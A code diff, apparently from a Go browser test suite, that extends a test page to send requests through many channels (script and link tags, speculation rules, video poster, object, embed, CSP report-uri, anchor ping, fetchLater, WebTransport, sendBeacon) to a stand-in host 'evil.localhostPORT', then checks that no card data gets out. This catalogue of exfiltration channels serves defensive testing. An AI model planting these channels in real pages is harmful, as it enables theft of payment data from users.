@@ -193,6 +193,25 @@ const all = () => {
   const c = document.createElement('style'); c.textContent = 'body{background:url(http://evil.localhostPORT/css)}'; document.head.append(c);
   frames[0].postMessage(1, '*');
   try { new EventSource('/stream'); new WebSocket('ws://evil.localhostPORT/socket'); } catch {}
+  const add = (name, fields) => { const e = Object.assign(document.createElement(name), fields); (/link|meta|script/.test(name) ? document.head : document.body).append(e); return e; };
+  const evil = 'http://evil.localhostPORT/';
+  add('link', {rel: 'icon', href: evil + 'icon'});
+  add('link', {rel: 'manifest', href: evil + 'manifest'});
+  add('link', {rel: 'modulepreload', href: evil + 'modulepreload'});
+  add('link', {rel: 'preload', as: 'script', href: evil + 'preload'});
+  add('link', {rel: 'stylesheet', href: evil + 'stylesheet'});
+  add('script', {src: evil + 'script'});
+  add('script', {type: 'module', text: "import '" + evil + "module'"});
+  add('script', {type: 'speculationrules', text: JSON.stringify({
+    prefetch: [{source: 'list', urls: [evil + 'speculated'], eagerness: 'immediate'}],
+    prerender: [{source: 'list', urls: ['/prerendered'], eagerness: 'immediate'}]})});
+  add('video', {poster: evil + 'poster', src: evil + 'video'});
+  add('object', {data: evil + 'object'});
+  add('embed', {src: evil + 'embed'});
+  add('meta', {httpEquiv: 'Content-Security-Policy', content: "connect-src *; report-uri " + evil + "report"});
+  const a = add('a', {href: '#', ping: evil + 'ping'}); a.click();
+  try { fetchLater(evil + 'later', {method: 'POST', body: 'later-card', activateAfter: 0}); } catch {}
+  try { new WebTransport('https://evil.localhostPORT/transport'); } catch {}
   open('http://evil.localhostPORT/popup');
 };
 document.getElementById('b').addEventListener('click', all);
@@ -235,6 +254,7 @@ addEventListener('pagehide', () => navigator.sendBeacon('http://evil.localhostPO
 		"order": "card=form-card", "fetch": "fetch-card", "xhr": "xhr-card", "beacon": "beacon-card", "keepalive": "keepalive-card",
 		"worker": "worker-card", "shared": "shared-card", "service": "service-card", "frame": "frame-card",
 		"pixel": "", "prefetch": "", "frame2": "", "css": "", "stream": "", "popup": "",
+		"icon": "", "modulepreload": "", "preload": "", "stylesheet": "", "script": "", "module": "", "poster": "", "video": "", "object": "", "embed": "",
 	}
 	for path, body := range bodies {
 		waitFor(t, path, func() bool { return pressed()[path].Cut })
@@ -242,7 +262,7 @@ addEventListener('pagehide', () => navigator.sendBeacon('http://evil.localhostPO
 			t.Errorf("%s: %d bytes", path, r.Body.Len())
 		}
 	}
-	if tab.URL() != s.at("pay", "/") {
+	if page, _, _ := strings.Cut(tab.URL(), "#"); page != s.at("pay", "/") {
 		t.Errorf("the page was left for %s", tab.URL())
 	}
 
